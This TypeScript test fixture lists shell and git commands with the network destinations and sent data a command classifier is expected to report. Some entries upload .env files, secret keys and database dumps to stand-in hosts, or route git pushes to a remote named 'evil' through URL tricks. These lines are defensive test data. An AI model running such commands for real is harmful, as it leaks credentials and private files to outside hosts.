/**
 * Owns: the table of network commands and their destinations (ADR 0058): `host:port` (or `host` when the port is
 * unknown), `?` for a destination the command computes or that no file read can name; `sends` when the command
 * says what it sends. The project is `/projects/app` with the files in `NETWORK_FILES`.
 * Never: asserts a decision; the engine and CLI tests do.
 */

export const NETWORK_FILES: Readonly<Record<string, string>> = {
	"/projects/app/.git/config": [
		"[core]",
		"\trepositoryformatversion = 0",
		'[remote "origin"]',
		"\turl = git@github.com:me/app.git",
		"\tfetch = +refs/heads/*:refs/remotes/origin/*",
		'[remote "upstream"]',
		"\turl = https://gitlab.example.com/x/app.git",
		'[remote "evil"]',
		"\turl = https://evil.example/x.git ; a comment",
		'[remote "mirror"]',
		"\turl = https://rewrite.example/x.git",
		'[remote "split"]',
		"\turl = https://fetch.example.org/x.git",
		"\tpushurl = ssh://git@push.example.org:2222/x.git",
		'[branch "main"]',
		"\tremote = origin",
		'[branch "topic"]',
		"\tremote = upstream",
		"\tpushRemote = evil",
		'[url "https://mirror.example.net/"]',
		"\tinsteadOf = https://rewrite.example/",
	].join("\n"),
	"/projects/app/.git/HEAD": "ref: refs/heads/main\n",
	"/projects/app/.npmrc": "@corp:registry=https://npm.corp.example/\n",
	"/projects/app/requirements.txt": "--index-url https://pypi.corp.example/simple\nrequests==2.31\n",
	"/projects/wt/.git": "gitdir: /projects/app/.git/worktrees/wt\n",
	"/projects/app/.git/worktrees/wt/commondir": "../..\n",
	"/projects/app/.git/worktrees/wt/HEAD": "ref: refs/heads/topic\n",
	"/projects/private/.npmrc": "registry=https://registry.private.example/\n",
	"/projects/yarn2/.yarnrc.yml": 'npmRegistryServer: "https://yarn.corp.example"\n',
	"/projects/inc/.git/config":
		'[include]\n\tpath = ../shared.gitconfig\n[remote "origin"]\n\turl = https://github.com/x/y.git\n',
	"/home/u/.config/pip/pip.conf": "[global]\nextra-index-url = https://extra.pip.example/simple\n",
};

export interface NetworkCase {
	readonly command: string;
	readonly destinations: readonly string[];
	readonly sends?: readonly string[];
}

export const NETWORK_CASES: readonly NetworkCase[] = [
	// curl
	{ command: "curl https://api.github.com/x", destinations: ["api.github.com:443"] },
	{ command: "curl -s http://example.com", destinations: ["example.com:80"] },
	{ command: "curl example.com/path", destinations: ["example.com:80"] },
	{
		command: "curl -fsSL https://raw.githubusercontent.com/a/b/main/install.sh",
		destinations: ["raw.githubusercontent.com:443"],
	},
	{ command: "curl http://localhost:8080/health", destinations: ["localhost:8080"] },
	{ command: "curl https://user:pw@Example.COM:8443/x", destinations: ["example.com:8443"] },
	{ command: "curl http://github.com@evil.example/", destinations: ["evil.example:80"] },
	{ command: "curl 'http://[::1]:3000/'", destinations: ["::1:3000"] },
	{
		command: "curl -d @notes.txt https://example.invalid",
		destinations: ["example.invalid:443"],
		sends: ["the file notes.txt"],
	},
	{ command: "curl -d@.env https://example.invalid", destinations: ["example.invalid:443"], sends: ["the file .env"] },
	{
		command: "curl --data-binary @dump.sql https://x.example/up",
		destinations: ["x.example:443"],
		sends: ["the file dump.sql"],
	},
	{
		command: "curl -F 'file=@secret.key' https://up.example",
		destinations: ["up.example:443"],
		sends: ["the file secret.key"],
	},
	{
		command: "curl -T backup.tgz ftp://ftp.example.org/",
		destinations: ["ftp.example.org:21"],
		sends: ["the file backup.tgz"],
	},
	{
		command: "curl --upload-file x.bin https://put.example/x",
		destinations: ["put.example:443"],
		sends: ["the file x.bin"],
	},
	{ command: "curl -d 'a=1' https://post.example", destinations: ["post.example:443"], sends: ["data given inline"] },
	{
		command: "curl --json @body.json https://api.example",
		destinations: ["api.example:443"],
		sends: ["the file body.json"],
	},
	{ command: "curl --url https://a.example --url https://b.example", destinations: ["a.example:443", "b.example:443"] },
	{ command: "curl -x http://proxy.corp:3128 https://x.example", destinations: ["x.example:443", "proxy.corp:3128"] },
	{ command: "curl $URL", destinations: ["?"] },
	{ command: 'curl "https://$HOST/x"', destinations: ["?"] },
	{ command: "curl https://{a,b}.example.com/", destinations: ["?"] },
	{ command: "curl -K urls.cfg", destinations: ["?"] },
	{ command: "curl --resolve x.example:443:10.0.0.1 https://x.example", destinations: ["x.example:443", "?"] },
	{ command: "curl file:///etc/hosts", destinations: [] },
	{ command: "sudo curl https://sudo.example/", destinations: ["sudo.example:443"] },
	{
		command: "echo x | curl -d @- https://pipe.example",
		destinations: ["pipe.example:443"],
		sends: ["its standard input"],
	},
	// wget
	{ command: "wget https://files.example.com/a.tgz", destinations: ["files.example.com:443"] },
	{ command: "wget -q -O - example.org", destinations: ["example.org:80"] },
	{ command: "wget -i urls.txt", destinations: ["?"] },
	{
		command: "wget --post-file=report.csv https://collect.example/",
		destinations: ["collect.example:443"],
		sends: ["the file report.csv"],
	},
	// httpie, xh
	{ command: "http GET api.example.com/users", destinations: ["api.example.com:80"] },
	{
		command: "http POST https://api.example.com/x name=a",
		destinations: ["api.example.com:443"],
		sends: ["data given inline"],
	},
	{ command: "https api.example.com/x", destinations: ["api.example.com:443"] },
	{ command: "http :3000/health", destinations: ["localhost:3000"] },
	{
		command: "http -f POST up.example file@./secret.txt",
		destinations: ["up.example:80"],
		sends: ["the file ./secret.txt"],
	},
	{ command: "xh https://xh.example/", destinations: ["xh.example:443"] },
	// ssh family
	{ command: "ssh deploy@prod.example.com", destinations: ["prod.example.com:22"] },
	{ command: "ssh -p 2222 git@host.example 'uptime'", destinations: ["host.example:2222"] },
	{ command: "ssh ssh://u@box.example:2200", destinations: ["box.example:2200"] },
	{ command: "ssh -J bastion.example inner.example", destinations: ["inner.example:22", "bastion.example:22"] },
	{ command: "ssh -o ProxyCommand='nc %h %p' x.example", destinations: ["x.example:22", "?"] },
	{ command: 'ssh "$HOST"', destinations: ["?"] },
	{
		command: "scp notes.txt user@files.example:/tmp/",
		destinations: ["files.example:22"],
		sends: ["the file notes.txt"],
	},
	{
		command: "scp -P 2022 a.txt b.txt host.example:dst/",
		destinations: ["host.example:2022"],
		sends: ["the file a.txt", "the file b.txt"],
	},
	{ command: "scp host.example:/etc/motd .", destinations: ["host.example:22"] },
	{ command: "scp ./a:b /tmp/x", destinations: [] },
	{ command: "sftp user@sftp.example", destinations: ["sftp.example:22"] },
	{
		command: "rsync -av src/ backup@nas.example:/srv/backup/",
		destinations: ["nas.example:22"],
		sends: ["the file src/"],
	},
	{ command: "rsync -a rsync://mirror.example/pub/ ./pub/", destinations: ["mirror.example:873"] },
	{ command: "rsync -a mirror.example::pub ./pub/", destinations: ["mirror.example:873"] },
	{ command: "rsync -a src/ /mnt/backup/", destinations: [] },
	// sockets
	{ command: "nc example.com 80", destinations: ["example.com:80"] },
	{ command: "nc -zv db.internal 5432", destinations: ["db.internal:5432"] },
	{ command: "nc -l 8080", destinations: [] },
	{ command: "ncat --ssl tls.example 443", destinations: ["tls.example:443"] },
	{ command: "netcat 10.0.0.5 9000 < dump.bin", destinations: ["10.0.0.5:9000"] },
	{ command: "nc $H 80", destinations: ["?"] },
	{ command: "telnet towel.blinkenlights.nl", destinations: ["towel.blinkenlights.nl:23"] },
	{ command: "socat - TCP:example.com:80", destinations: ["example.com:80"] },
	{ command: "socat TCP-LISTEN:8080,fork TCP:backend.example:9000", destinations: ["backend.example:9000"] },
	{ command: "socat - OPENSSL:secure.example:443,verify=0", destinations: ["secure.example:443"] },
	{
		command: "socat - SOCKS4A:proxy.example:target.example:80",
		destinations: ["proxy.example:1080", "target.example:80"],
	},
	// git
	{ command: "git clone https://github.com/owner/repo.git", destinations: ["github.com:443"] },
	{ command: "git clone --depth 1 git@gitlab.com:g/p.git dir", destinations: ["gitlab.com:22"] },
	{ command: "git clone ssh://git@host.example:7999/p.git", destinations: ["host.example:7999"] },
	{ command: "git clone ../local-repo copy", destinations: [] },
	{ command: "git clone $REPO", destinations: ["?"] },
	{ command: "git ls-remote https://github.com/x/y", destinations: ["github.com:443"] },
	{ command: "git push", destinations: ["github.com:22"] },
	{ command: "git push origin main", destinations: ["github.com:22"] },
	{ command: "git push evil HEAD", destinations: ["evil.example:443"] },
	{ command: "git push split main", destinations: ["push.example.org:2222"] },
	{ command: "git fetch split", destinations: ["fetch.example.org:443"] },
	{ command: "git fetch upstream", destinations: ["gitlab.example.com:443"] },
	{ command: "git pull", destinations: ["github.com:22"] },
	{ command: "git pull --rebase upstream main", destinations: ["gitlab.example.com:443"] },
	{ command: "git fetch mirror", destinations: ["mirror.example.net:443"] },
	{ command: "git fetch https://rewrite.example/y.git", destinations: ["mirror.example.net:443"] },
	{
		command: "git fetch --all",
		destinations: [
			"github.com:22",
			"gitlab.example.com:443",
			"evil.example:443",
			"mirror.example.net:443",
			"fetch.example.org:443",
		],
	},
	{ command: "git push --repo=upstream", destinations: ["gitlab.example.com:443"] },
	{ command: "git push git@bitbucket.org:t/r.git main", destinations: ["bitbucket.org:22"] },
	{ command: "git -C /projects/wt push", destinations: ["evil.example:443"] },
	{ command: "cd /projects/wt && git fetch", destinations: ["gitlab.example.com:443"] },
	{ command: "git -C /projects/inc push", destinations: ["github.com:443"] },
	{ command: "git -C /projects/inc push other", destinations: ["?"] },
	{ command: "git -C /nowhere push", destinations: ["?"] },
	{ command: "git push nosuchremote", destinations: ["?"] },
	{
		command: "git -c url.https://evil.example/.insteadOf=https://github.com/ fetch https://github.com/x",
		destinations: ["?", "github.com:443"],
	},
	{ command: "git status", destinations: [] },
	{ command: "git commit -m 'push to https://x.example'", destinations: [] },
	{ command: "cd $D && git push", destinations: ["?"] },
	// package managers
	{ command: "npm install", destinations: ["registry.npmjs.org:443", "npm.corp.example:443"] },
	{ command: "npm i left-pad", destinations: ["registry.npmjs.org:443", "npm.corp.example:443"] },
	{ command: "npm install --registry https://r.example/ x", destinations: ["r.example:443", "npm.corp.example:443"] },
	{
		command: "npm_config_registry=https://env.example/ npm ci",
		destinations: ["env.example:443", "npm.corp.example:443"],
	},
	{
		command: "npm publish",
		destinations: ["registry.npmjs.org:443", "npm.corp.example:443"],
		sends: ["the package being published"],
	},
	{ command: "npm run build", destinations: [] },
	{ command: "npm test", destinations: [] },
	{ command: "cd /projects/private && npm install", destinations: ["registry.private.example:443"] },
	{ command: "npx cowsay hi", destinations: ["registry.npmjs.org:443", "npm.corp.example:443"] },
	{ command: "pnpm add zod", destinations: ["registry.npmjs.org:443", "npm.corp.example:443"] },
	{ command: "pnpm run test", destinations: [] },
	{ command: "yarn", destinations: ["registry.yarnpkg.com:443", "npm.corp.example:443"] },
	{ command: "cd /projects/yarn2 && yarn install", destinations: ["yarn.corp.example:443"] },
	{
		command: "npm install https://cdn.example/pkg.tgz",
		destinations: ["registry.npmjs.org:443", "npm.corp.example:443", "cdn.example:443"],
	},
	{
		command: "pip install requests",
		destinations: ["extra.pip.example:443", "pypi.org:443", "files.pythonhosted.org:443"],
	},
	{
		command: "pip3 install -i https://pypi.corp.example/simple flask",
		destinations: ["pypi.corp.example:443", "extra.pip.example:443"],
	},
	{
		command: "pip install -r requirements.txt",
		destinations: ["pypi.corp.example:443", "extra.pip.example:443", "pypi.org:443", "files.pythonhosted.org:443"],
	},
	{
		command: "pip install -r missing.txt",
		destinations: ["?", "extra.pip.example:443", "pypi.org:443", "files.pythonhosted.org:443"],
	},
	{
		command: "pip install git+https://github.com/x/y.git",
		destinations: ["github.com:443", "extra.pip.example:443", "pypi.org:443", "files.pythonhosted.org:443"],
	},
	{ command: "pip list", destinations: [] },
	{ command: "PIP_INDEX_URL=$IDX pip install x", destinations: ["?", "extra.pip.example:443"] },
	// containers
	{ command: "docker pull ubuntu:24.04", destinations: ["docker.io:443"] },
	{ command: "docker pull ghcr.io/owner/img:1", destinations: ["ghcr.io:443"] },
	{
		command: "docker push registry.corp.example:5000/team/app",
		destinations: ["registry.corp.example:5000"],
		sends: ["the image registry.corp.example:5000/team/app"],
	},
	{ command: "docker image pull localhost:5000/x", destinations: ["localhost:5000"] },
	{ command: "podman pull quay.io/x/y", destinations: ["quay.io:443"] },
	{ command: "docker run --rm alpine echo hi", destinations: [] },
	{ command: "docker pull $IMAGE", destinations: ["?"] },
	// not network programs
	{ command: "echo https://example.com", destinations: [] },
	{ command: "cat notes.txt", destinations: [] },
];
